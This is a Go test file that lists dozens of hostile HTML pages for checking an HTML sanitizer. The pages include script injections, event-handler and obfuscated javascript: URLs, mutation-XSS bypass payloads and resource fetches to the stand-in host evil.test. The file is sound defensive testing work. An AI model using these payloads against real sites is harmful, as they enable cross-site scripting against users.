package evidenceview

// hostile are pages that try to run a script or make the browser fetch
// something, each in its own way. Every script, if it ran, would set
// document.title to "pwned" or write to window.pwned, and every fetch goes
// to the host evil.test (the browser test checks that neither happens).
// want is text the sanitized page must still show.
var hostile = []struct {
	name, page string
	want       []string
}{
	{"script element", `<p>price 10</p><script>document.title="pwned"</script>`, []string{"price 10"}},
	{"script src", `<script src="http://evil.test/x.js"></script><p>ok</p>`, []string{"ok"}},
	{"script in head", `<html><head><title>Listing</title><script>window.pwned=1</script></head><body>x</body></html>`, []string{"x"}},
	{"onload body", `<body onload="document.title='pwned'"><p>hello</p></body>`, []string{"hello"}},
	{"onerror img", `<img src=x onerror="document.title='pwned'" alt="product photo">`, []string{"product photo", "image source: x"}},
	{"handlers everywhere", `<div onclick="pwn()" onmouseover="pwn()"><a onfocus="pwn()" autofocus tabindex=1 href="#">focus</a><details open ontoggle="document.title='pwned'"><summary>s</summary></details></div>`, []string{"focus"}},
	{"javascript href", `<a href="javascript:document.title='pwned'">click</a>`, []string{"click", "script: javascript:"}},
	{"javascript href obfuscated", `<a href="jav&#x09;ascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a>`, []string{"script: "}},
	{"vbscript and data href", `<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>parent.document.title='pwned'</script>">d</a>`, []string{"data: text/html"}},
	{"svg script", `<svg><script>document.title="pwned"</script><circle r=5 /></svg><p>after</p>`, []string{"svg removed", "after"}},
	{"svg onload", `<svg onload="document.title='pwned'"><animate onbegin="document.title='pwned'" attributeName=x dur=1s></svg>`, nil},
	{"svg use href", `<svg><use href="http://evil.test/sprite.svg#a"/><image href="http://evil.test/i.png"/></svg>`, nil},
	{"math", `<math><mtext><table><mglyph><style><img src=x onerror="document.title='pwned'"></style></mglyph></table></mtext></math>`, nil},
	{"img srcset", `<img srcset="http://evil.test/a.png 1x, http://evil.test/b.png 2x" alt="a">`, []string{"image set: http://evil.test/a.png", "image set: http://evil.test/b.png"}},
	{"picture source", `<picture><source srcset="http://evil.test/p.webp" type="image/webp"><img src="http://evil.test/p.jpg" alt="pic"></picture>`, []string{"pic"}},
	{"css url in style attribute", `<div style="background:url(http://evil.test/bg.png)">styled</div>`, []string{"styled", "style url: http://evil.test/bg.png"}},
	{"css url quoted escaped", `<p style="background-image: url( 'http://evil.test/q.png' ); behavior: url(#default#x)">q</p>`, []string{"q"}},
	{"style element import", `<style>@import "http://evil.test/a.css"; body{background:url("http://evil.test/b.png")}</style><p>s</p>`, []string{"s"}},
	{"style element expression", `<style>*{x:expression(document.title='pwned')}</style><p>e</p>`, []string{"e"}},
	{"link stylesheet and prefetch", `<link rel=stylesheet href="http://evil.test/s.css"><link rel=prefetch href="http://evil.test/p"><link rel=dns-prefetch href="//evil.test"><p>l</p>`, []string{"l"}},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=http://evil.test/"><p>m</p>`, []string{"m"}},
	{"meta refresh in body", `<p>b</p><meta http-equiv=refresh content="0; URL=javascript:document.title='pwned'">`, []string{"b"}},
	{"base href", `<base href="http://evil.test/"><a href="/x">rel</a><img src="y.png">`, []string{"rel", "link: /x"}},
	{"iframe src", `<iframe src="http://evil.test/frame"></iframe><p>f</p>`, []string{"iframe removed", "f"}},
	{"iframe srcdoc", `<iframe srcdoc="<script>parent.document.title='pwned'</script><img src=http://evil.test/z>"></iframe>`, []string{"iframe removed"}},
	{"object embed applet", `<object data="http://evil.test/o.swf"><param name=movie value="http://evil.test/m.swf"></object><embed src="http://evil.test/e.swf"><applet code=A codebase="http://evil.test/"></applet>`, []string{"object removed", "embed removed"}},
	{"frameset", `<frameset><frame src="http://evil.test/f1"></frameset>`, nil},
	{"form action", `<form action="http://evil.test/post" method=post><input name=q value="shipping NL"><button formaction="javascript:pwn()">Buy</button><input type=image src="http://evil.test/buy.png"></form>`, []string{"shipping NL", "Buy"}},
	{"select options", `<select name=ship><option value=1>Netherlands</option><option selected>Germany</option><optgroup label=EU><option>France</option></optgroup></select>`, []string{"Netherlands", "(selected) Germany", "EU", "France"}},
	{"textarea breakout", `<textarea></textarea><script>document.title='pwned'</script></textarea>`, nil},
	{"textarea with markup", `<textarea><img src=x onerror="document.title='pwned'"></textarea>`, []string{"&lt;img src=x"}},
	{"noscript mxss", `<noscript><p title="</noscript><img src=x onerror=document.title='pwned'>"></noscript>`, nil},
	{"noscript style mxss", `<noscript><style></noscript><img src=x onerror="document.title='pwned'"></style></noscript>`, nil},
	{"title breakout", `<title></title><img src=x onerror="document.title='pwned'"></title><p>t</p>`, []string{"t"}},
	{"xmp and plaintext", `<xmp><script>document.title='pwned'</script></xmp><plaintext><img src=x onerror=pwn()>`, []string{"&lt;script&gt;"}},
	{"comment tricks", `<!--><img src=x onerror="document.title='pwned'">--><!-- --!><script>pwn()</script> --><p>c</p>`, nil},
	{"malformed nesting", `<table><tr><td><div><p><b><i>deep<table><td>x</td></b></i><script>pwn()</script></table></p></div></td></tr></table><a><a><a href="http://evil.test">n</a>`, []string{"deep"}},
	{"unclosed tags", "<div>" + repeat("<b><i><u>", 3000) + "text at the bottom", []string{"text at the bottom"}},
	{"deep nesting", repeat("<div>", 2000) + "deep text" + repeat("</div>", 2000), []string{"deep text"}},
	{"template", `<template><img src=x onerror="document.title='pwned'"></template><p>t</p>`, []string{"t"}},
	{"audio video", `<video poster="http://evil.test/p.jpg" src="http://evil.test/v.mp4"><track src="http://evil.test/t.vtt"></video><audio src="http://evil.test/a.mp3" autoplay></audio>`, []string{"video removed", "audio removed"}},
	{"background attributes", `<table background="http://evil.test/t.png"><tr><td background="http://evil.test/td.png">cell</td></tr></table><body background="http://evil.test/b.png">`, []string{"cell", "background: http://evil.test/td.png"}},
	{"blockquote cite and q", `<blockquote cite="http://evil.test/c">quote</blockquote>`, []string{"quote", "cited: http://evil.test/c"}},
	{"attribute breakout", `<p title='"><script>document.title="pwned"</script>'>x</p><p title="&quot;onmouseover=pwn() x=">y</p>`, []string{"x", "y"}},
	{"id and class clobbering", `<form id=login><input name=csrf></form><img name=getElementById><p id="main" class="ev-link nav">p</p>`, []string{"p"}},
	{"dialog and portal", `<dialog open onclose="pwn()">d</dialog><portal src="http://evil.test/portal"></portal>`, []string{"d"}},
	{"image element", `<image src="http://evil.test/i.png">`, nil},
	{"data url image with script", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.document.title=1'/>">`, []string{"data: image/svg+xml"}},
	{"http-equiv set-cookie and CSP", `<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *"><p>h</p>`, []string{"h"}},
	{"custom elements", `<x-foo onclick="pwn()"><my-el is="x">custom</my-el></x-foo><marquee onstart="document.title='pwned'">m</marquee>`, []string{"custom", "m"}},
	{"null and control bytes", "<scr\x00ipt>document.title='pwned'</scr\x00ipt><p>\x00z\x01</p><img\x00src=x onerror=pwn()>", []string{"z"}},
	{"utf-7 label", `<meta charset="utf-7"><p>+ADw-script+AD4-document.title='pwned'+ADw-/script+AD4-</p>`, nil},
	{"ping and download", `<a href="http://evil.test/d" ping="http://evil.test/ping" download>dl</a>`, []string{"dl"}},
	{"object in table foster", `<table><object data="http://evil.test/o"></object><tr><td>c</td></tr></table>`, []string{"c"}},
	{"input autofocus onfocus", `<input autofocus onfocus="document.title='pwned'">`, []string{"input text"}},
	{"dompurify form math mxss", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, nil},
	{"svg p style mxss", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, nil},
	{"math textarea mxss", `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`, nil},
	{"svg xlink javascript", `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`, nil},
	{"javascript in frames and objects", `<iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(1)"></object><embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, nil},
	{"eval of attributes", `<img src=x:alert(alt) onerror=eval(src) alt=0><body onpageshow=alert(1)>`, nil},
	{"video source onerror", `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`, nil},
	{"entity-encoded javascript", `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">e</a>`, []string{"script: javascript:alert(1)"}},
	{"style expression attribute", `<div style="width: expression(alert(1)); background: u\72l(http://evil.test/esc.png)">w</div>`, []string{"w"}},
	{"meta refresh data url", `<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><p>r</p>`, []string{"r"}},
	{"keygen isindex", `<keygen autofocus onfocus="document.title='pwned'"><isindex action="javascript:pwn()">`, nil},
}

func repeat(s string, n int) string {
	b := make([]byte, 0, len(s)*n)
	for range n {
		b = append(b, s...)
	}
	return string(b)
}
